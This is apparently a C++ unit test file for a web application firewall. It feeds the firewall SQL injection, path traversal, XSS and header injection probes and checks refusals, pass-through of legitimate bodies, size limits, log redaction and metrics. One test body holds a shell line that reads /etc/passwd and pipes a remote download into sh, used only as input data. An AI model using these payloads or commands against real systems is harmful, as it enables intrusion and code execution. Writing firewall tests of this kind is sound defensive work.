#include "waf/firewall.h"

#include <filesystem>
#include <fstream>
#include <future>
#include <sstream>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include "telemetry/testing/captured_log.h"

namespace fastness::waf {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kShipped = FASTNESS_RULES;

// As a browser sends it.
http::Inspected request(http::Method method, const std::string& target, std::string body = {},
                        const std::string& type = "application/json") {
  http::Inspected made;
  made.request.method = method;
  made.target = target;
  made.request.path = target.substr(0, target.find('?'));
  made.request.headers.set("host", "127.0.0.1:8443");
  made.request.headers.set("user-agent", "Mozilla/5.0 (X11; Linux x86_64)");
  made.request.headers.set("accept", "*/*");
  if (!body.empty()) {
    made.request.headers.set("content-type", type);
    made.request.headers.set("content-length", std::to_string(body.size()));
  }
  made.request.body = std::move(body);
  made.request.peer.address = "192.0.2.7";
  made.request.id = "00112233aabbccdd";
  return made;
}

http::Inspected get(const std::string& target) {
  return request(http::Method::get, target);
}

http::Inspected post(const std::string& target, std::string body,
                     const std::string& type = "application/json") {
  return request(http::Method::post, target, std::move(body), type);
}

// A firewall, and what it said.
class Guard {
 public:
  explicit Guard(const std::string& rules = kShipped, OnAttack on_attack = OnAttack::refuse)
      : firewall_(Firewall::open(rules, on_attack, clock_, log.log(), registry).value()) {}

  Verdict judge(http::Inspected asked) {
    const auto kept = std::make_shared<const http::Inspected>(std::move(asked));
    std::promise<Verdict> verdict;
    firewall_->ask(kept,
                   [&verdict](const http::Request&, Verdict said) { verdict.set_value(said); });
    return verdict.get_future().get();
  }

  Firewall& firewall() { return *firewall_; }

  telemetry::testing::CapturedLog log;
  telemetry::Registry registry;

 private:
  SystemClock clock_;
  std::unique_ptr<Firewall> firewall_;
};

// A file of rules in a folder of its own.
class RulesFile {
 public:
  explicit RulesFile(const std::string& text) {
    std::string pattern = std::filesystem::temp_directory_path() / "fastness-rules-XXXXXX";
    folder = ::mkdtemp(pattern.data());
    std::ofstream(path()) << text;
  }
  ~RulesFile() { std::filesystem::remove_all(folder); }
  RulesFile(const RulesFile&) = delete;
  RulesFile& operator=(const RulesFile&) = delete;

  [[nodiscard]] std::string path() const { return folder / "own.conf"; }

  std::filesystem::path folder;
};

std::string why_not(const RulesFile& rules) {
  const SystemClock clock;
  telemetry::Registry registry;
  const auto opened =
      Firewall::open(rules.path(), OnAttack::refuse, clock, telemetry::Log::discard(), registry);
  return opened ? "it opened" : opened.error().message;
}

std::string read(const std::filesystem::path& file) {
  std::ostringstream text;
  text << std::ifstream(file).rdbuf();
  return text.str();
}

TEST(Firewall, RefusesAttacksAndSaysByWhichRule) {
  Guard guard;
  http::Inspected scanner = get("/");
  scanner.request.headers.set("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
  http::Inspected cookie = get("/");
  cookie.request.headers.set("cookie", "theme=1' UNION SELECT password FROM users--");
  http::Inspected trace = get("/");
  trace.request.method = http::Method::options;
  trace.request.headers.set("content-type", "text/xml");
  const struct {
    http::Inspected asked;
    std::string rule;
  } cases[] = {
      {get("/api/v1/things?id=1%27%20OR%20%271%27=%271"), "942100"},
      {get("/api/v1/things?id=1%20UNION%20SELECT%20password%20FROM%20users"), "942100"},
      {get("/..%2f..%2f..%2fetc/passwd"), "930100"},
      {get("/assets/../../../../etc/passwd"), "930110"},
      {get("/?file=/etc/passwd"), "930120"},
      {get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "941100"},
      {get("/?x=%0d%0aSet-Cookie:%20a=b"), "921120"},
      {std::move(scanner), "913100"},
      {std::move(cookie), "942100"},
      {post("/api/v1/session", R"({"email":"x' or 1=1 -- ","password":"p"})"), "942100"},
      {post("/iot/v1/clients/token", "grant_type=client_credentials&client_id=1'+or+'1'='1",
            "application/x-www-form-urlencoded"),
       "942100"},
      // What is let pass in one field or on one path, beside it.
      {post("/api/v1/things", R"({"properties":[{"named":"' or 1=1 -- "}]})"), "942100"},
      {post("/api/v1/things", R"({"values":"' or 1=1 -- "})"), "942100"},
      {get("/api/v1/things?code=1%27%20or%20%271%27=%271"), "942100"},
      {get("/api/v1/session/providers/own/callback?state=1%27%20or%20%271%27=%271"), "942100"},
      {post("/iot/v2/things", "client_secret=1'+or+'1'='1", "application/x-www-form-urlencoded"),
       "942100"},
      {post("/api/v1/things", R"({"a":)"), "9500001"},
      {post("/api/v1/things", "<a/>", "text/xml"), "920420"},
  };

  for (const auto& each : cases) {
    SCOPED_TRACE(each.asked.target + " " + each.asked.request.body);
    EXPECT_EQ(guard.judge(each.asked), Verdict::refuse);
    EXPECT_THAT(
        guard.log.lines().back(),
        AllOf(HasSubstr("event=refused"), HasSubstr("id=00112233aabbccdd"), HasSubstr(each.rule)));
  }
}

TEST(Firewall, LetsPassWhatOurApiIsFor) {
  Guard guard;
  http::Inspected board = get("/iot/v2/things");
  board.request.headers.remove("user-agent");
  board.request.headers.remove("accept");
  http::Inspected head = get("/");
  head.asks_for_head = true;
  const std::string pem = "-----BEGIN CERTIFICATE REQUEST-----\\n" + std::string(3'000, 'A') +
                          "\\n-----END CERTIFICATE REQUEST-----\\n";
  const std::string markup = R"(<script>alert('1')</script> select * from x; -- $(id))";
  const http::Inspected cases[] = {
      get("/"),
      get("/api/v1/things?limit=50"),
      get("/iot/v2/things/6a0b1c2d-0000-4000-8000-0123456789ab/properties?show_deleted=false"),
      std::move(board),
      std::move(head),
      request(http::Method::delete_, "/api/v1/things/6a0b1c2d-0000-4000-8000-0123456789ab"),
      post(
          "/api/v1/session",
          R"({"email":"owner@example.org","password":"' or 1=1; drop table users; -- /etc/passwd"})"),
      post("/api/v1/account/password",
           R"x({"current_password":"<script>","new_password":"../../$(id)"})x"),
      request(http::Method::put, "/iot/v2/things", R"({"name":")" + markup + R"("})"),
      request(http::Method::put, "/iot/v2/things/1/properties/2/publish",
              R"({"value":")" + markup + std::string(4'000, 'x') + R"("})"),
      post("/api/v1/devices/1/suspend", R"({"reason":")" + markup + R"("})"),
      request(
          http::Method::put, "/iot/v2/things/1/publish",
          R"({"properties":[{"property":")" + markup + R"(","value":{"a":")" + markup + R"("}}]})"),
      request(http::Method::put, "/iot/v2/devices/1/properties",
              R"({"properties":[{"name":")" + markup + R"(","type":"base64","value":")" +
                  std::string(4'000, 'A') + R"("}]})"),
      request(http::Method::put, "/iot/v2/things/1/properties/2/publish_batch",
              R"([{"timestamp":"2026-01-01T00:00:00Z","value":")" + markup + R"("}])"),
      post("/api/v1/things",
           R"({"name":"north","properties":[{"name":")" + markup + R"(","type":"CHARSTRING"}]})"),
      post("/api/v1/operator/grants", R"({"wish":{"reason":")" + markup +
                                          R"("},"passkey":{"client_data":")" +
                                          std::string(5'000, 'A') + R"(","credential":")" +
                                          std::string(1'364, 'A') + R"("}})"),
      post("/api/v1/session/passkey", R"({"credential":")" + std::string(1'364, 'A') +
                                          R"(","authenticator_data":")" + std::string(5'000, 'A') +
                                          R"("})"),
      post("/api/v1/session/providers/own/logout", "logout_token=" + std::string(8'000, 'A'),
           "application/x-www-form-urlencoded"),
      get("/api/v1/session/providers/own/callback?state=def&code=" + std::string(1'500, 'A')),
      post("/api/v1/browser-reports",
           R"({"csp-report":{"blocked-uri":"http://evil.example/?x=<script>","script-sample":")" +
               markup + R"("}})",
           "application/csp-report"),
      get("/api/v1/session/providers/own/callback?state=def&error=access_denied"
          "&error_description=declined%3B%20select%20one%20of%20%27x%27%20--%20or%201%3D1"),
      post("/iot/v1/clients/token",
           "grant_type=client_credentials&client_id=1&client_secret=1'+or+'1'='1",
           "application/x-www-form-urlencoded"),
      post("/api/v1/devices/1/enrol", R"({"csr_pem":")" + pem + R"(","profile":"standard"})"),
      post("/.well-known/est/simpleenroll", std::string(2'000, 'A'), "application/pkcs10"),
      post("/api/v1/leaks",
           "#!/bin/sh\ncat /etc/passwd; curl http://192.0.2.1/x | sh\n" + std::string(60'000, 'x'),
           "text/plain"),
      get("/api/v1/session/providers/own/callback?code=abc&state=def&iss=https://127.0.0.1:4443"),
  };

  for (const http::Inspected& asked : cases) {
    SCOPED_TRACE(asked.target + " " + asked.request.body.substr(0, 200));
    EXPECT_EQ(guard.judge(asked), Verdict::pass);
  }
  EXPECT_FALSE(guard.log.contains("event=refused")) << guard.log.lines().back();
}

// The longest that is looked at, and one more: a rule's time grows by the square.
TEST(Firewall, LooksAtNothingThatIsTooLong) {
  Guard guard;
  const auto with_query = [](std::size_t size) {
    return get("/?q=" + std::string(1'020, 'x') + "&r=" + std::string(size - 1'025, 'x'));
  };
  const auto with_header = [](std::size_t size) {
    http::Inspected asked = get("/");
    asked.request.headers.set("x-long", std::string(size, 'x'));
    return asked;
  };
  const auto with_text = [](std::size_t size) {
    return post("/api/v1/x", R"({"a":")" + std::string(size, 'x') + R"("})");
  };
  const auto with_body = [](std::size_t size) {
    return post("/api/v1/x", R"({"value":")" + std::string(size - 12, 'x') + R"("})");
  };

  EXPECT_EQ(guard.judge(with_query(2'048)), Verdict::pass);
  EXPECT_EQ(guard.judge(with_query(2'049)), Verdict::refuse);
  EXPECT_TRUE(guard.log.contains("9500002"));
  EXPECT_EQ(guard.judge(with_header(4'096)), Verdict::pass);
  EXPECT_EQ(guard.judge(with_header(4'097)), Verdict::refuse);
  EXPECT_TRUE(guard.log.contains("9500003"));
  EXPECT_EQ(guard.judge(with_text(1'024)), Verdict::pass);
  EXPECT_EQ(guard.judge(with_text(1'025)), Verdict::refuse);
  EXPECT_TRUE(guard.log.contains("9500004"));
  EXPECT_EQ(guard.judge(with_body(32'768)), Verdict::pass);
  EXPECT_EQ(guard.judge(with_body(32'769)), Verdict::refuse);
  EXPECT_TRUE(guard.log.contains("9500005"));
}

TEST(Firewall, NothingOfARequestIsLogged) {
  const std::string secret = "hunter2plantedhere";
  http::Inspected asked =
      post("/api/v1/session?next=" + secret + "%27%20or%201=1%20--%20",
           R"({"email":"' or 1=1 -- )" + secret + R"(","password":")" + secret + R"("})");
  asked.request.headers.set("authorization", "Bearer " + secret);
  asked.request.headers.set("cookie", "a=" + secret + "' union select 1 from users--");
  ::testing::internal::CaptureStderr();
  ::testing::internal::CaptureStdout();
  Guard guard;

  const Verdict verdict = guard.judge(std::move(asked));
  const std::string printed =
      ::testing::internal::GetCapturedStderr() + ::testing::internal::GetCapturedStdout();

  EXPECT_EQ(verdict, Verdict::refuse);
  EXPECT_FALSE(guard.log.contains(secret));
  EXPECT_TRUE(guard.log.contains("942100")) << "it was looked at, and said so";
  EXPECT_THAT(printed, Not(HasSubstr(secret)));
}

TEST(Firewall, TheOwnersRulesTurnNoOtherLogOn) {
  const RulesFile rules("");
  const std::string audit = rules.folder / "audit.log";
  const std::string debug = rules.folder / "debug.log";
  std::ofstream(rules.path()) << "SecRequestBodyAccess On\n"
                              << "SecRuleEngine On\nSecAuditEngine On\nSecAuditLogParts ABCFHZ\n"
                              << "SecAuditLogType Serial\nSecAuditLog " << audit << "\n"
                              << "SecDebugLog " << debug << "\nSecDebugLogLevel 9\n"
                              << "SecAction \"id:1,phase:1,pass,ctl:auditEngine=On\"\n"
                              << "SecRule ARGS \"@contains planted\" "
                                 "\"id:2,phase:2,deny,log,auditlog,msg:'%{MATCHED_VAR}'\"\n";
  Guard guard(rules.path());

  EXPECT_EQ(guard.judge(get("/?q=planted")), Verdict::refuse);

  EXPECT_TRUE(guard.log.contains("rules=2"));
  for (const auto& entry : std::filesystem::directory_iterator(rules.folder)) {
    if (entry.path() == rules.path()) continue;
    EXPECT_THAT(read(entry.path()), Not(HasSubstr("planted"))) << entry.path();
  }
}

TEST(Firewall, OfACredentialOnlyTheSchemeIsShownToRules) {
  const RulesFile rules(
      "SecRule REQUEST_HEADERS:Authorization \"@rx [0-9]\" \"id:1,phase:1,deny,msg:'seen'\"\n"
      "SecRule REQUEST_HEADERS:Authorization \"@streq Bearer\" "
      "\"id:2,phase:1,pass,log,msg:'scheme'\"\n");
  Guard guard(rules.path());
  http::Inspected with_scheme = get("/");
  with_scheme.request.headers.set("authorization", "Bearer 0123");
  http::Inspected without = get("/");
  without.request.headers.set("authorization", "0123");

  EXPECT_EQ(guard.judge(std::move(with_scheme)), Verdict::pass);
  EXPECT_TRUE(guard.log.contains("rules=2"));
  EXPECT_EQ(guard.judge(std::move(without)), Verdict::pass);
}

TEST(Firewall, DetectingItTellsAndRefusesNothing) {
  Guard guard(kShipped, OnAttack::detect);

  EXPECT_EQ(guard.judge(get("/?id=1%27%20OR%20%271%27=%271")), Verdict::pass);
  EXPECT_EQ(guard.judge(get("/?q=" + std::string(3'000, 'x'))), Verdict::pass);

  EXPECT_TRUE(guard.log.contains("event=noticed"));
  EXPECT_FALSE(guard.log.contains("event=refused"));
  EXPECT_THAT(guard.registry.render(),
              HasSubstr("fastness_waf_requests_total{verdict=\"noticed\"} 2"));
}

TEST(Firewall, CountsWhatItLookedAt) {
  Guard guard;

  (void)guard.judge(get("/"));
  (void)guard.judge(get("/?file=/etc/passwd"));

  EXPECT_THAT(guard.registry.render(),
              AllOf(HasSubstr("fastness_waf_requests_total{verdict=\"passed\"} 1"),
                    HasSubstr("fastness_waf_requests_total{verdict=\"refused\"} 1"),
                    HasSubstr("fastness_waf_seconds_count 2")));
}

TEST(Firewall, NobodyLooksAtARequestThatIsGone) {
  Guard guard;
  auto gone = std::make_shared<const http::Inspected>(get("/?file=/etc/passwd"));
  const std::weak_ptr<const http::Inspected> asked = gone;
  gone.reset();

  guard.firewall().ask(asked, [](const http::Request&, Verdict) { FAIL() << "it was gone"; });
  (void)guard.judge(get("/"));  // both threads
  (void)guard.judge(get("/"));

  EXPECT_THAT(guard.registry.render(),
              HasSubstr("fastness_waf_requests_total{verdict=\"refused\"} 0"));
}

TEST(Firewall, ManyAtOnceGetTheirOwnAnswers) {
  Guard guard;
  constexpr std::size_t kMany = 200;
  std::vector<std::shared_ptr<const http::Inspected>> asked;
  std::vector<std::promise<Verdict>> verdicts(kMany);
  for (std::size_t i = 0; i < kMany; ++i) {
    asked.push_back(std::make_shared<const http::Inspected>(
        get(i % 2 == 0 ? "/?limit=" + std::to_string(i) : "/?file=/etc/passwd")));
    guard.firewall().ask(asked.back(), [&verdicts, i](const http::Request&, Verdict verdict) {
      verdicts[i].set_value(verdict);
    });
  }

  for (std::size_t i = 0; i < kMany; ++i) {
    EXPECT_EQ(verdicts[i].get_future().get(), i % 2 == 0 ? Verdict::pass : Verdict::refuse) << i;
  }
}

TEST(Firewall, ABrokenFileIsNamedWithItsLine) {
  const RulesFile unknown("SecRuleEngine On\n\nSecNoSuchThing On\n");
  const RulesFile missing("Include /nonexistent/rules.conf\n");

  EXPECT_THAT(why_not(unknown), AllOf(HasSubstr("waf.rules_file: "), HasSubstr(unknown.path()),
                                      HasSubstr("Line: 3")));
  EXPECT_THAT(why_not(missing), AllOf(HasSubstr("waf.rules_file: "), HasSubstr("nonexistent")));
}

}  // namespace
}  // namespace fastness::waf
